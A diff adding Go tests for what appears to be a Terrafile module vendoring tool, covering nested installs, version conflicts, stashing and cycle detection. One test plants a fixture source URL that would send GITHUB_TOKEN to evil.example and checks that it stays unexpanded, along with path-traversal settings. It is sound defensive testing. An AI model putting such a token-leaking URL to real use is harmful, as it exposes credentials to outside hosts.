@@ -0,0 +1,222 @@
+/*
+Copyright 2022 IDT Corp.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+
+package main
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestCompareVersions(t *testing.T) {
+	for _, test := range []struct {
+		a, b     string
+		expected int
+	}{
+		{"v1.0.0", "v1.0.0", 0},
+		{"v1.2.0", "v1.10.0", -1},
+		{"2.0.0", "v1.9.9", 1},
+		{"v1.0", "v1.0.1", -1},
+		{"v1.0.0-rc1", "v1.0.0", -1},
+		{"v1.0.0-rc2", "v1.0.0-rc1", 1},
+		{"main", "develop", 1},
+	} {
+		assert.Equal(t, test.expected, compareVersions(test.a, test.b), "%s <=> %s", test.a, test.b)
+	}
+}
+
+func TestInstallNested(t *testing.T) {
+	defer restoreOpts()()
+	setTestOpts()
+	opts.Nested = true
+	opts.NestedDepth = 5
+	back := chdir(t, t.TempDir())
+	defer back()
+
+	leaf := createNestedRepository(t, "v1.0.0", map[string]string{"main.tf": "# v1\n"})
+	commitNestedRepository(t, leaf, "v2.0.0", map[string]string{"main.tf": "# v2\n"})
+	mid := createNestedRepository(t, "v1.0.0", map[string]string{
+		"Terrafile": fmt.Sprintf("leaf:\n  source: %q\n  version: v1.0.0\n", leaf),
+	})
+	top := createNestedRepository(t, "v1.0.0", map[string]string{
+		"Terrafile": fmt.Sprintf("terrafile:\n  module_path: modules\nmid:\n  source: %q\n  version: v1.0.0\nleaf:\n  source: %q\n  version: v2.0.0\n  destinations: [., examples]\n", mid, leaf),
+	})
+	assert.NoError(t, os.MkdirAll(opts.ModulePath, os.ModePerm))
+	m := module{Source: top, Version: "v1.0.0"}
+
+	t.Run("conflict", func(t *testing.T) {
+		opts.NestedConflicts = conflictFail
+		err := installModule("top", m, opts.ModulePath)
+		if assert.Error(t, err) {
+			assert.Contains(t, err.Error(), "nested Terrafiles require")
+			assert.Contains(t, err.Error(), "v1.0.0 by top -> mid -> leaf; v2.0.0 by top -> leaf")
+		}
+		assert.NoDirExists(t, "vendor/modules/top")
+	})
+
+	t.Run("highest", func(t *testing.T) {
+		opts.NestedConflicts = conflictHighest
+		assert.NoError(t, installModule("top", m, opts.ModulePath))
+
+		for _, dir := range []string{"vendor/modules/top/modules/leaf", "vendor/modules/top/examples/modules/leaf", "vendor/modules/top/modules/mid/vendor/modules/leaf"} {
+			contents, err := os.ReadFile(filepath.Join(dir, "main.tf"))
+			assert.NoError(t, err)
+			assert.Equal(t, "# v2\n", string(contents), dir)
+		}
+		link, err := os.Readlink("vendor/modules/top/examples/modules/leaf")
+		assert.NoError(t, err)
+		assert.Equal(t, filepath.Join("..", "..", "modules", "leaf"), link)
+
+		metadata, err := readMetadata("vendor/modules/top")
+		assert.NoError(t, err)
+		assert.True(t, metadata.Nested)
+		_, ok := upToDate("vendor/modules/top", m, false)
+		assert.True(t, ok)
+	})
+
+	t.Run("depth", func(t *testing.T) {
+		opts.NestedDepth = 1
+		defer func() { opts.NestedDepth = 5 }()
+		err := installModule("other", m, opts.ModulePath)
+		assert.EqualError(t, err, "nested Terrafiles are more than 1 level(s) deep: other -> mid")
+	})
+}
+
+func TestInstallNestedTransitive(t *testing.T) {
+	defer restoreOpts()()
+	setTestOpts()
+	opts.Nested = true
+	opts.NestedDepth = 5
+	opts.Transitive = true
+	back := chdir(t, t.TempDir())
+	defer back()
+
+	leaf := createNestedRepository(t, "v1.0.0", map[string]string{"main.tf": "# v1\n"})
+	top := createNestedRepository(t, "v1.0.0", map[string]string{
+		"main.tf":   "# top\n",
+		"Terrafile": fmt.Sprintf("terrafile:\n  module_path: modules\nleaf:\n  source: %q\n  version: v1.0.0\n", leaf),
+	})
+	assert.NoError(t, os.MkdirAll(opts.ModulePath, os.ModePerm))
+	m := module{Source: top, Version: "v1.0.0"}
+
+	assert.NoError(t, installModule("top", m, opts.ModulePath))
+	metadata, err := readMetadata("vendor/modules/top/modules/leaf")
+	assert.NoError(t, err)
+	if assert.NotNil(t, metadata) {
+		assert.False(t, metadata.Transitive)
+	}
+	installed, err := os.Stat("vendor/modules/top")
+	assert.NoError(t, err)
+
+	// the second run keeps the module and the ones of its Terrafile
+	_, ok := upToDate("vendor/modules/top/modules/leaf", module{Source: leaf, Version: "v1.0.0"}, false)
+	assert.True(t, ok)
+	assert.NoError(t, installModule("top", m, opts.ModulePath))
+	kept, err := os.Stat("vendor/modules/top")
+	assert.NoError(t, err)
+	assert.True(t, os.SameFile(installed, kept))
+
+	// modifications of modules of its Terrafile are stashed against them
+	opts.StashDir = t.TempDir()
+	createFile(t, "vendor/modules/top/modules/leaf/main.tf", "# hotfix\n")
+	patch, err := stashModule("vendor/modules/top")
+	assert.NoError(t, err)
+	contents, err := os.ReadFile(patch)
+	assert.NoError(t, err)
+	assert.Contains(t, string(contents), "+# hotfix")
+	assert.NotContains(t, string(contents), "new file")
+	assert.NotContains(t, string(contents), "deleted file")
+
+	assert.NoError(t, os.RemoveAll("vendor/modules/top"))
+	assert.NoError(t, installModule("top", m, opts.ModulePath))
+	_, err = gitOutput(".", "apply", "--directory=vendor/modules/top", patch)
+	assert.NoError(t, err)
+	changes, err := localModifications("vendor/modules/top")
+	assert.NoError(t, err)
+	assert.Equal(t, []string{" M modules/leaf/main.tf"}, changes)
+}
+
+func TestInstallNestedCycle(t *testing.T) {
+	defer restoreOpts()()
+	setTestOpts()
+	opts.Nested = true
+	opts.NestedDepth = 5
+	back := chdir(t, t.TempDir())
+	defer back()
+
+	dir := t.TempDir()
+	source := "file://" + filepath.ToSlash(dir)
+	createFile(t, filepath.Join(dir, "Terrafile"), fmt.Sprintf("self:\n  source: %q\n  version: v1.0.0\n", source))
+	createGitModule(t, dir)
+	_, err := gitOutput(dir, "tag", "v1.0.0")
+	assert.NoError(t, err)
+
+	assert.NoError(t, os.MkdirAll(opts.ModulePath, os.ModePerm))
+	err = installModule("cycle", module{Source: source, Version: "v1.0.0"}, opts.ModulePath)
+	assert.EqualError(t, err, "nested Terrafile cycle: cycle -> self")
+}
+
+func TestReadNestedTerrafileUntrusted(t *testing.T) {
+	defer restoreOpts()()
+	t.Setenv("GITHUB_TOKEN", "secret")
+	opts.Vars = []string{"REGION=eu-west-1"}
+	dir := t.TempDir()
+
+	filename := filepath.Join(dir, "Terrafile")
+	createFile(t, filename, "leak:\n  source: \"https://evil.example/${GITHUB_TOKEN}\"\n  version: \"${REGION}\"\n")
+	config, _, err := readNestedTerrafile(filename)
+	assert.NoError(t, err)
+	assert.Equal(t, "https://evil.example/${GITHUB_TOKEN}", config["leak"].Source)
+	assert.Equal(t, "${REGION}", config["leak"].Version)
+
+	for _, settings := range []string{
+		"terrafile:\n  include: [../../../Terrafile]\n",
+		"terrafile:\n  catalog: ../catalog.yaml\n",
+	} {
+		createFile(t, filename, settings)
+		_, _, err := readNestedTerrafile(filename)
+		assert.Error(t, err, settings)
+	}
+}
+
+// createNestedRepository creates a repository with files committed and tagged as version
+func createNestedRepository(t *testing.T, version string, files map[string]string) string {
+	dir := t.TempDir()
+	createGitModule(t, dir)
+	source := "file://" + filepath.ToSlash(dir)
+	commitNestedRepository(t, source, version, files)
+	return source
+}
+
+// commitNestedRepository commits files to the repository at source and tags them as version
+func commitNestedRepository(t *testing.T, source string, version string, files map[string]string) {
+	dir := filepath.FromSlash(source[len("file://"):])
+	for name, contents := range files {
+		createFile(t, filepath.Join(dir, name), contents)
+	}
+	for _, args := range [][]string{
+		{"add", "--all"},
+		{"-c", "user.name=terrafile", "-c", "user.email=terrafile@example.com", "commit", "--quiet", "-m", version},
+		{"tag", version},
+	} {
+		_, err := gitOutput(dir, args...)
+		assert.NoError(t, err)
+	}
+}